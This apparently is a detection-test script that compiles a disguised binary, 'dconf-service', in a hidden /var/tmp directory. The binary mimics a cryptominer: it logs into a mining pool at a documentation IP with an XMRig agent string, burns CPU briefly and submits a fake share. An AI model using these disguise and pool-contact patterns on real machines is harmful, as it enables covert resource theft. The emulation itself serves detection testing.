#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/tmp/.cache-dconf && cd /var/tmp/.cache-dconf
cat >d.c <<'END'
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
int main(void)
{
    struct sockaddr_in pool = { .sin_family = AF_INET, .sin_port = htons(3333) };
    char answer[512];
    inet_pton(AF_INET, "198.51.100.7", &pool.sin_addr);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(fd, (void *)&pool, sizeof pool)) return 1;
    dprintf(fd, "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"48bait\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0\",\"algo\":[\"rx/0\"]}}\n");
    if (read(fd, answer, sizeof answer) <= 0) return 1;
    unsigned long x = 1;
    for (time_t end = time(0) + 3; time(0) < end;)
        for (int i = 0; i < 1000000; i++) x = x * 6364136223846793005ul + 1;
    dprintf(fd, "{\"id\":2,\"method\":\"submit\",\"params\":{\"job_id\":\"1\",\"nonce\":\"%08lx\"}}\n", x);
    return 0;
}
END
tcc -o dconf-service d.c && rm d.c
./dconf-service
took_place
